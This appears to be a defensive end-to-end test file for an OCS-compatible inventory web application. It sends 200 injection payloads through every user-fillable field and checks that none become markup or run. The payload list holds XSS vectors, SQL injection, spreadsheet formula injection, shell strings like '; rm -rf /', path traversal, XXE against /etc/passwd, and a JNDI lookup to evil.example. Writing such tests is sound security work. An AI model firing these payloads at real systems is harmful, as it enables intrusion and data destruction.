// 200 texts that want to be something else than text, in every field that somebody else than an administrator fills.

import { deflateSync } from "node:zlib";
import { ask, base, check, cli, close, go, newProblems, none, number, press, follow, signedIn, visitor } from "./lib.mjs";

/** What runs, if it is ever taken for markup. An element of it carries data-payload: none may be in a page. */
const vectors = (n) => [
  `<script data-payload>hit(${n})</script>`,
  `<img data-payload src=x onerror=hit(${n})>`,
  `<svg data-payload onload=hit(${n})>`,
  `<svg data-payload><script>hit(${n})</script></svg>`,
  `<iframe data-payload srcdoc="<script>parent.hit(${n})</script>"></iframe>`,
  `<details data-payload open ontoggle=hit(${n})>`,
  `<input data-payload autofocus onfocus=hit(${n})>`,
  `<a data-payload href="javascript:hit(${n})">press</a>`,
  `<object data-payload data="data:text/html,<script>alert(${n})</script>"></object>`,
  `<style data-payload>*{display:none!important}</style>`,
  `<link data-payload rel=stylesheet href=//evil.example/x.css>`,
  `<base data-payload href=//evil.example/>`,
  `<meta data-payload http-equiv=refresh content="0;url=//evil.example/">`,
  `<form data-payload action=//evil.example/><button>press</button></form>`,
  `<math data-payload><mtext><table><mglyph><style><img src=x onerror=hit(${n})>`,
];
const prefixes = ["", `">`, `'>`, "</textarea>", "</title>", "-->", "</script>", "]]>"];
const others = [
  // attributes, addresses, templates, encodings
  `" onmouseover="hit(1)" x="`, `' onfocus='hit(1)' autofocus x='`, "` onfocus=hit(1) autofocus `", `x" data-live="//evil.example/" y="`,
  `x" data-swap="list" data-confirm="`, "javascript:hit(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/", "/\\evil.example",
  "{{7*7}}", "{{ shell.csrf }}", "{% include \"oops.html\" %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('hit(1)')()}}",
  "&lt;script&gt;hit(1)&lt;/script&gt;", "&#60;script&#62;hit(1)&#60;/script&#62;", "&amp;lt;b&amp;gt;", "&amp;amp;", "&", "&&amp;&", "%3Cscript%3Ehit(1)%3C/script%3E", "\\u003cscript\\u003ehit(1)\\u003c/script\\u003e", "\\x3cimg src=x\\x3e",
  "<", ">", "\"", "'", "<>", "<b>bold</b>", "<!-- no comment", "<![CDATA[ x ]]>", "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
  // SQL
  "' OR '1'='1", "\" OR \"\"=\"", "'; DROP TABLE computers; --", "1); DELETE FROM packages; --", "%' AND 1=1 --", "' UNION SELECT name, password FROM users --", "\\'; --", "$1", "?1", ":name", "%", "_%_", "\\%",
  "'; SELECT pg_sleep(9); --", "' || randomblob(1000000000) || '", "/**/OR/**/1=1", "admin'--", "0x27204f52", "name like '%'", "tag = 'x' or name != ''", "NULL", "null", "undefined", "true", "NaN", "-0", "1e309",
  // formulas of spreadsheets
  "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/\",\"press\")", "\"=1+1\"", "a,=1+1", "a;=1+1", "\",\"=1+1", "=IMPORTXML(\"http://evil.example/\",\"//a\")",
  // shells, paths, headers, formats
  "$(reboot)", "`reboot`", "; rm -rf /", "| cat /etc/passwd", "&& id", "../../../../etc/passwd", "..\\..\\windows\\system32", "C:\\con\\aux", "%00", "%0d%0aSet-Cookie: x=1", "%s%n%x", "${jndi:ldap://evil.example/x}", "a/b", "a?b=c#d", "a b", "a%20b", "a+b", "~", ".", "..", "#", "?",
  // texts of the world
  "café", "cafe\u0301", "Zoë Müller-Lüdenscheidt", "İstanbul ıİ", "Ångström", "日本語の名前", "Москва", "שלום עולם", "مرحبا بالعالم", "ภาษาไทย", "ﷺ", "👩‍👩‍👧‍👦 family", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "\u{1f4a9}\u{10ffff}", "\u202egnp.exe", "a\u200bb", "a\u00a0b", "a\u2028b", "\u2066x\u2069y", "＜script＞hit(1)＜/script＞", "Z\u0351\u036ba\u0350\u0323l\u0340g\u0301o\u0327", "ẞßſ", "ﬁ", "\u00ad soft", "x\ufeffy", "ı̇", "𝕏",
];

/** All 200, each another one. */
export const list = (() => {
  const markup = prefixes.flatMap((prefix, at) => vectors(at).map((vector) => prefix + vector));
  // Every vector without a prefix, and as many of the others as are needed.
  const all = [...new Set([...vectors(0), ...others])];
  for (const one of markup.slice(vectors(0).length)) if (all.length < 200 && !all.includes(one)) all.push(one);
  if (all.length !== 200) throw new Error(`there are ${all.length} payloads`);
  return all;
})();

const one = (value) => value.replace(/\s+/gu, " ").trim();
const xml = (value) => value.replace(/[&<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`);

// ---- sending -------------------------------------------------------------------------------------------------------

/** The sections of an inventory with their fields; all are filled. */
const SECTIONS = {
  HARDWARE: "NAME WORKGROUP USERDOMAIN OSNAME OSVERSION OSCOMMENTS PROCESSORT USERID LASTLOGGEDUSER DESCRIPTION WINCOMPANY WINOWNER WINPRODID ARCH UUID IPADDR DNS DEFAULTGATEWAY",
  BIOS: "SMANUFACTURER SMODEL SSN TYPE BMANUFACTURER BVERSION BDATE ASSETTAG MMANUFACTURER MMODEL MSN",
  SOFTWARES: "PUBLISHER NAME VERSION FOLDER COMMENTS FILENAME SOURCE LANGUAGE",
  NETWORKS: "DESCRIPTION TYPE TYPEMIB SPEED STATUS VIRTUALDEV IPDHCP DRIVER",
  DRIVES: "LETTER TYPE FILESYSTEM VOLUMN LABEL SERIAL",
  STORAGES: "MANUFACTURER NAME MODEL DESCRIPTION TYPE SERIALNUMBER FIRMWARE",
  CPUS: "MANUFACTURER TYPE SERIALNUMBER SOCKET",
  MEMORIES: "CAPTION DESCRIPTION PURPOSE TYPE SERIALNUMBER",
  MONITORS: "MANUFACTURER CAPTION DESCRIPTION TYPE SERIAL",
  PRINTERS: "NAME DRIVER PORT DESCRIPTION SHARENAME COMMENT",
  VIDEOS: "NAME CHIPSET MEMORY RESOLUTION",
  SOUNDS: "MANUFACTURER NAME DESCRIPTION",
  INPUTS: "TYPE MANUFACTURER CAPTION DESCRIPTION INTERFACE POINTTYPE",
  CONTROLLERS: "MANUFACTURER NAME CAPTION DESCRIPTION VERSION TYPE",
  PORTS: "TYPE NAME CAPTION DESCRIPTION",
  SLOTS: "NAME DESCRIPTION DESIGNATION PURPOSE STATUS",
  MODEMS: "NAME MODEL DESCRIPTION TYPE",
  USBDEVICES: "NAME MANUFACTURER CAPTION",
  LOCAL_USERS: "ID NAME",
  LOCAL_GROUPS: "ID NAME MEMBER",
  REPOSITORY: "BASEURL NAME ENABLED",
  VIRTUALMACHINES: "NAME VMTYPE SUBSYSTEM UUID STATUS",
  BATTERIES: "NAME CHEMISTRY MANUFACTURER LOCATION SERIALNUMBER",
};

/** A field's own mark stands after the payload, so it can be told where a text on a page comes from. */
const mark = (section, field) => `~${section}.${field}~`;
export const device = (n) => `p${n}-2026-01-02-03-04-${String(n % 60).padStart(2, "0")}`;

/** The inventory of a computer in which every field is this payload. */
function inventory(n, payload) {
  const sections = Object.entries(SECTIONS).map(([section, fields]) => {
    const leaves = fields.split(" ").map((field) => `<${field}>${xml(payload)} ${mark(section, field)}</${field}>`);
    return `<${section}>${leaves.join("")}</${section}>`;
  });
  const account = `<ACCOUNTINFO><KEYNAME>TAG</KEYNAME><KEYVALUE>${xml(payload)} ${mark("ACCOUNTINFO", "TAG")}</KEYVALUE></ACCOUNTINFO>`;
  return `<?xml version="1.0" encoding="UTF-8"?><REQUEST><CONTENT>${sections.join("")}${account}</CONTENT>` +
    `<DEVICEID>${device(n)}</DEVICEID><QUERY>INVENTORY</QUERY></REQUEST>`;
}

/** Sends a message as a stock agent does; gives the status of the answer. */
export async function post(document) {
  const response = await fetch(`${base}/ocsinventory`, {
    method: "POST",
    headers: { "Content-Type": "application/x-compress", "User-Agent": "OCS-NG_unified_unix_agent_v2.10.0" },
    body: deflateSync(Buffer.from(document)),
  });
  await response.arrayBuffer();
  return response.status;
}

/** Sends one for each payload; those that were refused. */
export async function send() {
  const refused = [];
  await each(list, 2, async (payload, n) => {
    const status = await post(inventory(n, payload));
    if (status !== 200) refused.push(`${status} for ${payload}`);
  });
  return refused;
}

/** `width` at a time. */
async function each(items, width, work) {
  const queue = items.map((item, at) => [item, at]);
  await Promise.all(Array.from({ length: width }, async () => {
    for (let next = queue.shift(); next; next = queue.shift()) await work(...next);
  }));
}

// ---- looking -------------------------------------------------------------------------------------------------------

/** All text of a page, also what is in fields and titles, and what came of payloads. */
const look = (page) => page.evaluate(() => ({
  text: [document.body.textContent, ...[...document.querySelectorAll("input, textarea")].map((it) => it.value),
    ...[...document.querySelectorAll("[title]")].map((it) => it.title)].join("\n"),
  made: document.querySelectorAll("[data-payload]").length,
}));

/** Opens an address: what became of it as markup is told; gives its text. */
async function seen(page, address, faults) {
  const response = await go(page, address);
  const { text, made } = await look(page);
  if (made > 0) faults.push(`${made} elements of a payload are in ${address}`);
  return { status: response?.status() ?? 0, text: one(text) };
}

/** Follows "next" from a list to its end. */
async function walk(page, address, faults, most = 80) {
  let text = "";
  for (let turn = 0; address && turn < most; turn += 1) {
    const here = await seen(page, address, faults);
    if (here.status !== 200) throw new Error(`${address} answers ${here.status}`);
    text += ` ${here.text}`;
    address = await page.$eval("a[rel=next]", (it) => it.getAttribute("href")).catch(() => null);
  }
  return text;
}

/** Has it a meaning in an address, or is it a step of one? Of those that are short; the long ones hold nothing else. */
const hardToAddress = (name) => name.length <= 10 && /^\.+$|[\/?#%\\]/.test(name);

const missing = (text, wanted) => wanted.filter((value) => !text.includes(one(value)));

export async function everywhere() {
  const page = await signedIn();
  const faults = [];

  await check("200 inventories with a payload in every field are taken", async () => none(await send()));
  await check("their names stand in the list of computers as they were sent", async () =>
    none(missing(await walk(page, "/computers", faults), list.map((payload) => `${payload} ${mark("HARDWARE", "NAME")}`))));

  const fields = new Set();
  await check("each computer's page shows its fields as they were sent", async () => {
    const altered = [];
    for (const [n, payload] of list.entries()) {
      const overview = await seen(page, `/computers/${encodeURIComponent(device(n))}`, faults);
      if (overview.status !== 200) { altered.push(`${overview.status} for ${payload}`); continue; }
      let text = overview.text;
      // All of what is known is behind tabs and sections; they are the same for all computers, so not all are opened for all.
      const hrefs = (selector) => page.$$eval(selector, (all) => all.map((it) => it.getAttribute("href")));
      const open = async (address) => { text += ` ${(await seen(page, address, faults)).text}`; };
      const tabs = await hrefs("main nav.tabs a");
      if (n % 20 === 0) for (const address of tabs) await open(address);
      await open(tabs.find((it) => it.endsWith("/inventory")) ?? tabs[0]);
      const sections = await hrefs("main a[href*='/inventory?']");
      for (const address of n % 20 === 0 ? sections : sections.slice(n % (sections.length || 1)).slice(0, 1)) await open(address);
      for (const [section, names] of Object.entries(SECTIONS)) {
        for (const field of names.split(" ")) {
          const [wanted, sign] = [one(`${payload} ${mark(section, field)}`), mark(section, field)];
          if (!text.includes(sign)) continue;
          fields.add(sign);
          // Whatever stands before a mark is the payload, every time.
          if (text.split(sign).length !== text.split(wanted).length) altered.push(`${sign} of ${payload}`);
        }
      }
    }
    return none(altered);
  });
  await check("... most of the inventory's fields are shown", () => (fields.size >= 60 ? true : `only ${fields.size}: ${[...fields].join(" ")}`));
  await check("software stands in its list as it was sent", async () =>
    // Titles that differ in small and capital letters only are one.
    none(missing((await walk(page, "/software", faults)).toLowerCase(), list.map((payload) => `${payload} ${mark("SOFTWARES", "NAME")}`.toLowerCase()))));
  await check("exports for spreadsheets hold no formula, and nothing is lost", async () => {
    const { status, text } = await ask(page, "GET", "/computers/export.csv");
    if (status !== 200) return `it answers ${status}`;
    const cells = csv(text.replace(/^\ufeff/, "")).flat();
    const formulas = cells.filter((cell) => /^[=+@\t\r-]/.test(cell) && !/^[+-]?[\d.]+$/.test(cell)).map((cell) => `formula: ${cell}`);
    return none([...formulas, ...missing(one(cells.join(" ")), list.map((payload) => `${payload} ${mark("HARDWARE", "NAME")}`))]);
  });

  await check("... and each program that is hard to address has a page behind its link", async () => {
    const altered = [];
    for (const payload of list.filter(hardToAddress)) {
      const name = `${payload} ${mark("SOFTWARES", "NAME")}`;
      await seen(page, `/software?q=${encodeURIComponent(name)}`, faults);
      const address = await page.$eval("main tbody th a", (it) => it.getAttribute("href")).catch(() => null);
      const { status, text } = address ? await seen(page, address, faults) : { status: "no link", text: "" };
      if (status !== 200 || !text.toLowerCase().includes(one(name).toLowerCase())) altered.push(`${status} ${name}`);
    }
    return none(altered);
  });

  const ids = [];
  await check("packages can be called by any of them", async () => {
    const refused = [];
    await each(list, 2, async (payload, n) => {
      const words = [["name", payload], ["version", payload], ["description", payload], ["notify-text", payload], ["done-text", payload], ["command", `echo ${payload}`]];
      const told = await cli("package", "build", "--os=windows", "--action=execute", ...words.map(([key, value]) => `--${key}=${value}`)).catch((error) => `refused: ${error.stderr}`);
      if (told.startsWith("refused")) refused.push(`${payload}: ${told}`);
      else ids[n] = number(told);
    });
    return none(refused);
  });
  await check("they stand in the list of packages as they were sent", async () => none(missing(await walk(page, "/packages", faults), list)));
  await check("each package's page shows name and description as they were sent", async () => {
    const altered = [];
    for (const [n, payload] of list.entries()) {
      const { status, text } = await seen(page, `/packages/${ids[n]}`, faults);
      if (status !== 200 || text.split(one(payload)).length < 3) altered.push(`${status} ${payload}`);
    }
    return none(altered);
  });

  const kept = { groups: [], roles: [], tokens: [] };
  await check("groups can be called by most of them, and stand in their list as they were sent", async () => {
    await each(list, 2, async (payload) => {
      await cli("group", "create", "--", payload).then(() => kept.groups.push(payload), () => {});
    });
    if (kept.groups.length < 150) return `only ${kept.groups.length} were taken`;
    return none(missing(await walk(page, "/groups", faults), kept.groups));
  });
  await check("... and have pages", async () => {
    const altered = [];
    for (const name of kept.groups.sort().filter((name, at) => at % 4 === 0 || hardToAddress(name))) {
      const { status, text } = await seen(page, `/groups/${encodeURIComponent(name)}`, faults);
      if (status !== 200 || !text.includes(one(name))) altered.push(`${status} ${name}`);
    }
    return none(altered);
  });
  await check("tags stand where they were set", async () => {
    const altered = [];
    for (const [n, payload] of list.entries()) {
      if (n % 10 !== 0) continue;
      await cli("computer", "tag", "--", device(n), payload);
      if (!(await seen(page, `/computers/${encodeURIComponent(device(n))}`, faults)).text.includes(one(payload))) altered.push(payload);
    }
    return none(altered);
  });
  await check("notes stand where they were written", async () => {
    const altered = [];
    for (const [n, payload] of list.entries()) {
      if (n % 10 !== 0) continue;
      const address = `/computers/${encodeURIComponent(device(n))}`;
      await go(page, address);
      const place = await page.$$eval("nav.tabs a", (all) => all.find((it) => /note/i.test(it.textContent))?.getAttribute("href"));
      if (place) await go(page, place);
      const form = await page.$("form[action*=note]:has(textarea)");
      if (!form) return `there is no form for notes at ${place ?? address}`;
      await form.$eval("textarea", (it, value) => { it.closest("details")?.setAttribute("open", ""); it.value = value; }, payload);
      await follow(page, () => form.evaluate((it) => it.requestSubmit()));
      const { text, made } = await look(page);
      if (made > 0) faults.push(`${made} elements of a note are in ${page.url()}`);
      if (!one(text).includes(one(payload))) altered.push(payload);
    }
    return none(altered);
  });
  await check("users can be called by none of those that are markup, and none is lost", async () => {
    await go(page, "/users");
    const altered = [];
    for (const payload of list) {
      const { status, text } = await ask(page, "POST", "/users", { name: payload, role: "viewer" });
      // A name that is refused is shown in its form again.
      if (/[<>"'&]/.test(payload) && status !== 422) altered.push(`${status} for ${payload}`);
      if (/<[a-z]+ data-payload/i.test(text)) faults.push(`the form of /users shows markup of ${payload}`);
    }
    await walk(page, "/users", faults);
    return none(altered);
  });
  await check("roles and tokens are called as they were typed", async () => {
    for (const payload of list) {
      if ((await ask(page, "POST", "/users/roles", { name: payload, right: "packages.see" })).status < 400) kept.roles.push(payload);
      // A user has a hundred tokens at most.
      if (kept.tokens.length < 90 && (await ask(page, "POST", "/account/tokens", { name: payload, right: "packages.see", days: "1" })).status < 400) kept.tokens.push(payload);
    }
    const short = list.filter((payload) => [...payload].length <= 60);
    if (kept.tokens.length < Math.min(90, short.length)) return `only ${kept.tokens.length} of ${short.length} names of tokens were taken`;
    return none([...missing(await walk(page, "/users/roles", faults), kept.roles), ...missing(await walk(page, "/account", faults), kept.tokens)]);
  });
  await check("the audit log shows all of it", async () => none(missing(await walk(page, "/audit", faults, 40), kept.roles)));

  await check("what is typed into addresses stays text", async () => {
    const places = ["/packages?q=", "/computers?q=", "/search?q=", "/software?q=", "/groups?q=", "/deployments?q=", "/audit?actor=", "/audit?subject=", "/networks?q=", "/packages/", "/computers/", "/groups/", "/users/one/", "/settings/", "/nothing/"];
    const failed = [];
    for (const [n, payload] of list.entries()) {
      const place = places[n % places.length];
      const { status } = await seen(page, `${place}${encodeURIComponent(payload).replace(/^\.+$/, "x$&")}`, faults);
      if (status >= 500) failed.push(`${status} at ${place} for ${payload}`);
    }
    return none(failed);
  });
  const stranger = await visitor();
  await check("signing in under a payload is refused, and leads to no other server", async () => {
    for (const payload of ["//evil.example/", "javascript:hit(1)", `"><script data-payload>hit(1)</script>`]) {
      await seen(stranger, `/sign-in?next=${encodeURIComponent(payload)}`, faults);
    }
    await stranger.$eval("input[name=name]", (it) => { it.value = `"><img data-payload src=x onerror=hit(1)>`; });
    await stranger.$eval("input[name=password]", (it) => { it.value = "not this one at all"; });
    await follow(stranger, () => press(stranger, "Sign in"));
    const { text, made } = await look(stranger);
    return made === 0 && text.includes("onerror=hit(1)");
  });
  await close(stranger);

  await check("no payload became markup anywhere", () => none(faults));
  await check("no payload ran", () => none(newProblems()));
  await close(page);
}

function csv(text) {
  const rows = [[]];
  for (const cell of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n|$)/g)) {
    rows.at(-1).push(cell[1] === undefined ? cell[2] : cell[1].replaceAll('""', '"'));
    if (cell[3] !== ",") rows.push([]);
    if (cell.index + cell[0].length >= text.length) break;
  }
  return rows;
}
